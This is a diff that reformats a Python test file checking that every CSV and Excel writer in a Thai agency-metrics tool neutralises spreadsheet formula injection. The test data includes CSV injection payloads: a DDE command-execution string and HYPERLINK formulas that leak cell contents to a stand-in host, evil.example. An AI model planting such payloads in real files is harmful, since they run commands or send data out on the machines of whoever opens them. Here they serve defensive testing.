@@ -6,6 +6,7 @@ dashboard's download buttons (`views.to_csv_bytes` / `to_excel_bytes`, used by
 the backup's CSVs. A second test finds every place in the code that writes a CSV or workbook, so a
 writer added later without the guard fails here.
 """
+
 from __future__ import annotations
 
 import csv
@@ -28,16 +29,29 @@ from ita_metrics.template import template_xlsx
 from tests.conftest import ROOT
 from tests.helpers import AGENCY, HEADER, TITLE, YEAR
 
-EVIL = ["=cmd|' /C notepad'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)",
-        "@SUM(A1)", "-2+3", "\t=1+1", "\r=2+2"]
+EVIL = [
+    "=cmd|' /C notepad'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+SUM(1,2)",
+    "@SUM(A1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=2+2",
+]
 NAME = "evil_report.csv"
 
 
 def evil_report() -> bytes:
     rows = [TITLE, YEAR, AGENCY, HEADER]
     for i, text in enumerate(EVIL):
-        rows.append([text, "=" + "กองคลัง" if i % 2 else "สำนักปลัด", "ตุลาคม ๒๕๖๕ - มีนาคม ๒๕๖๖",
-                     "@ดำเนินการแล้ว" if i % 2 else "ดำเนินการแล้ว"])
+        rows.append(
+            [
+                text,
+                "=" + "กองคลัง" if i % 2 else "สำนักปลัด",
+                "ตุลาคม ๒๕๖๕ - มีนาคม ๒๕๖๖",
+                "@ดำเนินการแล้ว" if i % 2 else "ดำเนินการแล้ว",
+            ]
+        )
     buf = io.StringIO()
     csv.writer(buf, lineterminator="\r\n").writerows(rows)
     return buf.getvalue().encode("utf-8")
@@ -96,28 +110,35 @@ def test_every_writer_neutralises(measures, tmp_path, capsys):
         "download xlsx (views.to_excel_bytes)": cells_of_xlsx(views.to_excel_bytes(measures, "overdue")),
         "excel report": cells_of_xlsx(report_xlsx(measures)),
         "parse --format csv": cells_of_csv(cli(["parse", str(src), "--format", "csv"], capsys).encode()),
-        "score --format csv": cells_of_csv(cli(["score", str(src), "--by", "responsible", "--format", "csv"],
-                                                capsys).encode()),
+        "score --format csv": cells_of_csv(
+            cli(["score", str(src), "--by", "responsible", "--format", "csv"], capsys).encode()
+        ),
     }
-    evil_agency = measures.assign(agency="=HYPERLINK(\"http://evil.example\")")
+    evil_agency = measures.assign(agency='=HYPERLINK("http://evil.example")')
     outputs["score render csv (a group named by a formula)"] = cells_of_csv(
-        cli_score.render(scoring.score_groups(evil_agency, by="agency"), "csv").encode())
+        cli_score.render(scoring.score_groups(evil_agency, by="agency"), "csv").encode()
+    )
     store = Store(tmp_path / "s.sqlite")
     store.import_result(parse_file(evil_report(), "=" + NAME))
     outputs["store list --format csv"] = cells_of_csv(
-        cli(["store", "--store", str(tmp_path / "s.sqlite"), "list", "--format", "csv"], capsys).encode())
+        cli(["store", "--store", str(tmp_path / "s.sqlite"), "list", "--format", "csv"], capsys).encode()
+    )
     with zipfile.ZipFile(io.BytesIO(store.backup_bytes())) as zf:
         for member in zf.namelist():
             if member.endswith(".csv") and member != "reports.csv":
                 outputs[f"backup {member}"] = cells_of_csv(zf.read(member))
         outputs["backup reports.csv"] = cells_of_csv(zf.read("reports.csv"))
     store.close()
-    template_cells = cells_of_xlsx(template_xlsx(2567, agency="=HYPERLINK(\"http://evil.example\")"), own_formulas=True)
+    template_cells = cells_of_xlsx(template_xlsx(2567, agency='=HYPERLINK("http://evil.example")'), own_formulas=True)
     outputs["template"] = template_cells
     for writer, cells in outputs.items():
         # every output is checked for live text; those that carry the file's text must show it guarded
-        must = 0 if writer == "score --format csv" or (writer.startswith("backup") and writer not in (
-            "backup measures.csv", "backup reports.csv")) else 1
+        must = (
+            0
+            if writer == "score --format csv"
+            or (writer.startswith("backup") and writer not in ("backup measures.csv", "backup reports.csv"))
+            else 1
+        )
         assert_inert(cells, writer, must)
 
 
@@ -126,6 +147,7 @@ def test_neutralise_touches_only_text():
     for start in DANGEROUS_STARTS:
         assert neutralise(start + "x") == "'" + start + "x"
     import pandas as pd
+
     df = pd.DataFrame({"n": [-1.5, 2.0], "t": ["=A1", "ok"], "s": pd.Series(["-x", ""], dtype="string")})
     out = neutralise_frame(df)
     assert out["n"].tolist() == [-1.5, 2.0] and out["t"].tolist() == ["'=A1", "ok"] and out["s"].tolist() == ["'-x", ""]
@@ -133,17 +155,19 @@ def test_neutralise_touches_only_text():
 
 
 # Every call that writes a spreadsheet-readable file, and where it is guarded (the walk above covers each).
-WRITER_CALL = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|"
-                         r"openpyxl\.Workbook\(")
+WRITER_CALL = re.compile(
+    r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|"
+    r"openpyxl\.Workbook\("
+)
 KNOWN_WRITERS = {
-    "ita_metrics/views.py": 2,          # to_csv_bytes, to_excel_bytes: every download button
-    "ita_metrics/cli_common.py": 1,     # parse/store list --format csv
-    "ita_metrics/cli_score.py": 1,      # score --format csv
-    "ita_metrics/cli_parse.py": 1,      # parse --format csv (streamed)
-    "ita_metrics/store.py": 1,          # backup CSVs
-    "ita_metrics/export_xlsx.py": 1,    # the Excel report (safe_text)
-    "ita_metrics/template.py": 1,       # the blank template (safe_text)
-    "ita_metrics/synth.py": 3,          # the synthetic sample reports: our own text, an input not an output
+    "ita_metrics/views.py": 2,  # to_csv_bytes, to_excel_bytes: every download button
+    "ita_metrics/cli_common.py": 1,  # parse/store list --format csv
+    "ita_metrics/cli_score.py": 1,  # score --format csv
+    "ita_metrics/cli_parse.py": 1,  # parse --format csv (streamed)
+    "ita_metrics/store.py": 1,  # backup CSVs
+    "ita_metrics/export_xlsx.py": 1,  # the Excel report (safe_text)
+    "ita_metrics/template.py": 1,  # the blank template (safe_text)
+    "ita_metrics/synth.py": 3,  # the synthetic sample reports: our own text, an input not an output
 }
 
 
